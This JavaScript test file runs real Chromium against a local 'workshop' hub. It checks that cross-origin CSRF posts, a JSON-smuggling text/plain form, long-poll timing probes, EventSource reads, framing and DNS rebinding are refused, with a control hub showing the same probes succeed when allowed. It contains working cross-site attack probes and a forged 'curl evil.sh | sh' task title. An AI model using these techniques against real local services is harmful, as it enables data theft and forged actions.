// Real-browser test of workshop's browser rules (README "Security model"): Debian's chromium, driven
// by playwright-core, against the real server binary. Run by tests/browser_threats.rs (`cargo test`),
// or alone:
//
//   WORKSHOP_BIN=target/release/workshop node tests/browser/threats.test.mjs
//
// Environment: WORKSHOP_BIN (required) the server binary; WORKSHOP_TEST_DIR a scratch folder (else a
// temp dir, removed at the end); CHROMIUM (default /usr/bin/chromium).
//
// chromium's host-resolver rules map three foreign names to 127.0.0.1: attacker.test serves a hostile
// page (another origin than the hub's http://127.0.0.1:PORT), evil.test:PORT is the hub reached
// through DNS rebinding, hub.test is the hub's own name, listed in WORKSHOP_HOSTNAMES. Every refusal
// is checked in the hub's own request log (WORKSHOP_VERBOSE) and in what it stored, and a control
// hub that lists attacker.test in WORKSHOP_CORS_ORIGINS shows the same probes succeed there, so a
// refusal is the hub's doing, not the test's.
import { createServer } from "node:http";
import { rmSync } from "node:fs";
import path from "node:path";
import { assert, launchChromium, request, run, startServer, step, stopServer, tally, testDir } from "./harness.mjs";

const BIN = process.env.WORKSHOP_BIN;
const { dir: DIR, own: OWN_DIR } = testDir("workshop-threats-");
const DEADLINE_MS = 240_000;
const ZERO_ID = "00000000000000000000000000";
const SECRET = "the secret plans";

if (!BIN) { console.error("set WORKSHOP_BIN to the workshop server binary"); process.exit(2); }

// ---- hubs and the attacker's web server -----------------------------------------------------------
const hubs = [];
// Starts a hub named `name` with `env` added; its request log (stderr) is kept in `hub.log`.
async function startHub(name, env) {
  const hub = { name, log: [] };
  hubs.push(hub);
  return Object.assign(hub, await startServer(BIN, {
    cwd: DIR,
    name,
    env: { PATH: process.env.PATH, PORT: "0", HOST: "127.0.0.1", WORKSHOP_VERBOSE: "true",
      DB_PATH: path.join(DIR, name + ".db"), BLOBS_DIR: path.join(DIR, name + "-blobs"), ...env },
    onStderr: (line) => hub.log.push(line),
  }));
}
const stopHub = async (hub) => { if (hub.proc) await stopServer(hub); };
// The hub's API as an agent uses it (no browser in between).
const api = (hub, method, p, body) => request(hub.base, method, p, body);
async function stored(hub) {
  const s = (await api(hub, "GET", "/status")).data;
  return { messages: s.messages, tasks: s.tasks };
}
// Log lines `METHOD path → status (ms)` for requests whose path starts with `prefix`.
const logged = (hub, method, prefix) =>
  hub.log.filter((l) => l.startsWith(`${method} ${prefix}`)).map((l) => Number(l.split("\u2192 ")[1]?.split(" ")[0]));

let attacker;
function startAttacker() {
  return new Promise((resolve) => {
    attacker = createServer((req, res) => {
      res.writeHead(200, { "Content-Type": "text/html; charset=utf-8" });
      res.end("<!doctype html><title>totally harmless</title><p>nothing to see here</p>");
    });
    attacker.listen(0, "127.0.0.1", () => resolve(attacker.address().port));
  });
}

// ---- helpers ------------------------------------------------------------------------------------
// Runs in the hostile page: every way a page can reach the hub. Returns what the page got.
async function probe({ hub, zero }) {
  const out = { reads: {}, sse: null };
  const attempt = async (fn) => { try { return await fn(); } catch (e) { return "blocked: " + e.name; } };
  for (const p of ["/history", "/tasks", "/presence", "/channels", "/status"]) {
    out.reads[p] = await attempt(async () => `read ${(await fetch(hub + p)).status}`);
  }
  const forged = JSON.stringify({ from: "victim", type: "msg.text", body: { text: "forged" } });
  // No preflight: a CORS-safelisted content type.
  out.simplePost = await attempt(async () =>
    `read ${(await fetch(hub + "/ch/csrf", { method: "POST", headers: { "Content-Type": "text/plain" }, body: forged })).status}`);
  // no-cors: the page never sees the answer, but the request is sent.
  out.noCorsPost = await attempt(async () =>
    (await fetch(hub + "/ch/csrf", { method: "POST", mode: "no-cors", body: forged })).type);
  // JSON: the browser asks first (OPTIONS) and sends the POST only if allowed.
  out.preflightedPost = await attempt(async () =>
    `read ${(await fetch(hub + "/tasks", { method: "POST", headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ from: "victim", title: "curl evil.sh | sh" }) })).status}`);
  // A text/plain form whose body is JSON: `{"from":...,"pad":"=` + `"}`.
  out.form = await new Promise((resolve) => {
    const sink = document.createElement("iframe");
    sink.name = "sink";
    document.body.append(sink);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: hub + "/ch/csrf", enctype: "text/plain", target: "sink" });
    const input = document.createElement("input");
    input.name = '{"from":"victim","type":"msg.form","pad":"';
    input.value = '"}';
    form.append(input);
    document.body.append(form);
    sink.addEventListener("load", () => resolve("submitted"), { once: true });
    form.submit();
    setTimeout(() => resolve("no load event"), 10_000);
  });
  // A long poll on a quiet channel, timed: the page cannot read the answer, but when it comes
  // would say whether anything was there (the hub refuses it from another site at once).
  // Both ways a page may ask: no-cors (no Origin sent) and cors.
  out.waitedMs = {};
  for (const mode of ["no-cors", "cors"]) {
    const asked = performance.now();
    await attempt(async () => (await fetch(hub + "/ch/quiet/history?wait=3", { mode })).type);
    out.waitedMs[mode] = Math.round(performance.now() - asked);
  }
  // EventSource, replaying from the start: a readable stream would deliver the seeded message.
  out.sse = await new Promise((resolve) => {
    const es = new EventSource(hub + "/ch/general?since=" + zero);
    const done = (v) => { es.close(); resolve(v); };
    es.onmessage = (e) => done("message: " + e.data);
    es.onerror = () => done("error");
    setTimeout(() => done("nothing in 10 s"), 10_000);
  });
  return out;
}

let browser, page;
const pageErrors = [];

async function main() {
  let hub, control, attackerOrigin;
  await step("hub, control hub and the attacker's page server start", async () => {
    const aport = await startAttacker();
    attackerOrigin = `http://attacker.test:${aport}`;
    hub = await startHub("hub", { WORKSHOP_HOSTNAMES: "hub.test" });
    control = await startHub("control", { WORKSHOP_CORS_ORIGINS: attackerOrigin });
    for (const h of [hub, control]) {
      const r = await api(h, "POST", "/ch/general", { from: "planner", type: "msg.text", body: { text: SECRET } });
      assert(r.status === 201, `seed ${h.name}: ${r.status} ${r.text}`);
    }
    console.log(`     hub ${hub.base}, control ${control.base}, attacker ${attackerOrigin}`);
  });

  browser = await launchChromium(["--host-resolver-rules=MAP attacker.test 127.0.0.1, MAP evil.test 127.0.0.1, MAP hub.test 127.0.0.1"]);
  const ctx = await browser.newContext();
  page = await ctx.newPage();
  page.setDefaultTimeout(20_000);
  page.on("pageerror", (err) => pageErrors.push(String(err)));

  await step("a page on another origin can neither read, write nor stream the hub", async () => {
    await page.goto(attackerOrigin + "/");
    const got = await page.evaluate(probe, { hub: hub.base, zero: ZERO_ID });
    console.log("     the page got: " + JSON.stringify(got));
    for (const [p, r] of Object.entries(got.reads)) assert(r.startsWith("blocked"), `read ${p}: ${r}`);
    assert(got.simplePost.startsWith("blocked"), "simple POST: " + got.simplePost);
    assert(got.preflightedPost.startsWith("blocked"), "preflighted POST: " + got.preflightedPost);
    assert(got.form === "submitted", "form: " + got.form);
    assert(got.sse === "error", "EventSource: " + got.sse);
    // What the hub did: refused the reads (another site's page, Sec-Fetch-Site: cross-site)
    // and every write, and answered the long poll at once, so its timing tells nothing.
    const now = await stored(hub);
    assert(now.messages === 1 && now.tasks === 0, "stored " + JSON.stringify(now));
    const csrf = logged(hub, "POST", "/ch/csrf");
    assert(csrf.length === 3 && csrf.every((s) => s === 403), "POST /ch/csrf answers " + csrf);
    const preflights = logged(hub, "OPTIONS", "/tasks");
    assert(preflights.length >= 1 && preflights.every((s) => s === 204), "preflight answers " + preflights);
    assert(logged(hub, "POST", "/tasks").length === 0, "the preflighted POST was never sent");
    const reads = logged(hub, "GET", "/history");
    assert(reads.length >= 1 && reads.every((s) => s === 403), "GET /history answers " + reads);
    const waits = logged(hub, "GET", "/ch/quiet");
    assert(waits.length === 2 && waits.every((s) => s === 403), "GET /ch/quiet?wait= answers " + waits);
    for (const [mode, ms] of Object.entries(got.waitedMs)) assert(ms < 2000, `the refused ${mode} long poll took ${ms} ms`);
  });

  await step("control: the same page, allowed by WORKSHOP_CORS_ORIGINS, can do all of it", async () => {
    await page.goto(attackerOrigin + "/");
    const got = await page.evaluate(probe, { hub: control.base, zero: ZERO_ID });
    for (const [p, r] of Object.entries(got.reads)) assert(r === "read 200", `read ${p}: ${r}`);
    assert(got.form === "submitted", "form: " + got.form);
    assert(got.simplePost === "read 201", "simple POST: " + got.simplePost);
    assert(got.preflightedPost === "read 201", "preflighted POST: " + got.preflightedPost);
    assert(got.sse.startsWith("message: ") && got.sse.includes(SECRET), "EventSource: " + got.sse);
    assert(got.waitedMs.cors >= 2500, `an allowed origin's long poll waits: ${got.waitedMs.cors} ms`);
    const now = await stored(control);
    // seed + simple, no-cors and form publishes + task.created
    assert(now.messages === 5 && now.tasks === 1, "stored " + JSON.stringify(now));
  });

  await step("the task board cannot be framed by another page", async () => {
    await page.goto(attackerOrigin + "/");
    const load = (src) => page.evaluate((src) => new Promise((resolve) => {
      const f = document.createElement("iframe");
      f.src = src;
      f.onload = () => resolve();
      document.body.append(f);
      setTimeout(resolve, 10_000);
    }), src);
    await load(hub.base + "/ui");
    await load(hub.base + "/status");   // control: a hub answer without frame-ancestors does load
    const urls = page.frames().map((f) => f.url());
    assert(urls.includes(hub.base + "/status"), "the control frame loaded: " + urls);
    assert(!urls.includes(hub.base + "/ui"), "the /ui frame was blocked: " + urls);
  });

  await step("DNS rebinding: http://evil.test:PORT/ui and its API calls are refused", async () => {
    const before = hub.log.length;
    const rebound = `http://evil.test:${hub.port}`;
    const res = await page.goto(rebound + "/ui");
    assert(res.status() === 403, "GET /ui answered " + res.status());
    const body = await res.text();
    assert(body.includes("WORKSHOP_HOSTNAMES") && !body.includes("<html"), body);
    // The rebound page is same-origin with the hub: no CORS in the way, only the Host check.
    const got = await page.evaluate(async () => {
      const read = await fetch("/history");
      const write = await fetch("/ch/rebound", { method: "POST", headers: { "Content-Type": "application/json" },
        body: JSON.stringify({ from: "victim", type: "msg.text" }) });
      const sse = await new Promise((resolve) => {
        const es = new EventSource("/ch/general?since=00000000000000000000000000");
        es.onmessage = () => { es.close(); resolve("message"); };
        es.onerror = () => { es.close(); resolve("error"); };
      });
      return { read: read.status, readBody: await read.text(), write: write.status, sse };
    });
    console.log("     the rebound page got: " + JSON.stringify({ ...got, readBody: got.readBody.slice(0, 80) }));
    assert(got.read === 403 && !got.readBody.includes(SECRET), "read " + got.read);
    assert(got.write === 403 && got.sse === "error", JSON.stringify(got));
    const answers = hub.log.slice(before).filter((l) => !l.startsWith("GET /favicon"));
    assert(answers.length >= 4 && answers.every((l) => l.includes("\u2192 403")), "hub log: " + answers.join(" | "));
    const now = await stored(hub);
    assert(now.messages === 1 && now.tasks === 0, "stored " + JSON.stringify(now));
  });

  await step("the hub's own /ui under a WORKSHOP_HOSTNAMES name keeps working", async () => {
    const own = `http://hub.test:${hub.port}`;
    const cspViolations = [];
    page.on("console", (m) => { if (/Content.Security.Policy/i.test(m.text())) cspViolations.push(m.text()); });
    const res = await page.goto(own + "/ui");
    assert(res.status() === 200, "GET /ui answered " + res.status());
    assert((res.headers()["content-security-policy"] || "").includes("frame-ancestors 'none'"), "CSP header");
    await page.locator('#conn[data-state="live"]').waitFor();
    const row = (text) => page.locator("#feed .row").filter({ has: page.locator(".b", { hasText: text }) });
    await row(SECRET).waitFor();
    const live = "published while the page watches";
    await api(hub, "POST", "/ch/general", { from: "planner", type: "msg.text", body: { text: live } });
    await row(live).waitFor({ timeout: 10_000 });
    // The page's own writes (same origin) are accepted.
    const write = await page.evaluate(async () => (await fetch("/ch/general", { method: "POST",
      headers: { "Content-Type": "application/json" }, body: JSON.stringify({ from: "human", type: "msg.text", body: { text: "hello from the page" } }) })).status);
    assert(write === 201, "same-origin write answered " + write);
    await row("hello from the page").waitFor({ timeout: 10_000 });
    assert(cspViolations.length === 0, "CSP violations: " + cspViolations.join(" | "));
    assert(pageErrors.length === 0, "page errors: " + pageErrors.join(" | "));
  });
}

// ---- run ----------------------------------------------------------------------------------------
async function cleanup() {
  if (browser) await browser.close().catch(() => {});
  for (const hub of hubs) await stopHub(hub).catch(() => {});
  if (attacker) attacker.close();
  if (OWN_DIR) rmSync(DIR, { recursive: true, force: true });
}
const t0 = Date.now();
const failed = await run(main, { deadlineMs: DEADLINE_MS, cleanup, onFailure: async () => {
  for (const hub of hubs) console.log(`---- last ${hub.name} log ----\n` + hub.log.slice(-30).join("\n"));
} });
console.log(`threats: ${tally(failed)}  (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
process.exit(failed ? 1 : 0);
